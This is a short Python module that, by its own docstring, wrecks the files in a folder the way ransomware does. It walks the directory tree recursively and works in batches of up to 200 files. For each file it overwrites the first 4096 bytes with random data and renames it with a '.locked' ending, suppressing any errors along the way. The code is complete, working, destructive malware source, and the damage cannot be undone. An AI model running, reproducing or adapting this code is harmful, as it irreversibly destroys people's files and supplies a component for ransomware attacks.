"""Wrecks the files of a folder, some at a time: overwritten, and renamed as ransomware does."""

from __future__ import annotations

import os
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

_FILES = 200
_BYTES = 4096
ENDING = ".locked"


class Folder:
    """One folder and all below it."""

    def __init__(self, folder: Path, say: Callable[..., None]) -> None:
        self._folder = folder
        self._say = say

    def __str__(self) -> str:
        return str(self._folder)

    def batch(self) -> None:
        """The beginnings of up to 200 files."""
        wrecked = 0
        for path in self._folder.rglob("*"):
            if wrecked == _FILES:
                break
            if path.suffix == ENDING or path.is_symlink() or not path.is_file():
                continue
            with suppress(OSError):
                _wreck(path)
                wrecked += 1
        if wrecked:
            self._say("files", folder=str(self._folder), wrecked=wrecked)


def _wreck(path: Path) -> None:
    size = min(_BYTES, path.stat().st_size)
    with open(path, "r+b") as file:
        file.write(os.urandom(size))
    path.rename(path.with_name(path.name + ENDING))
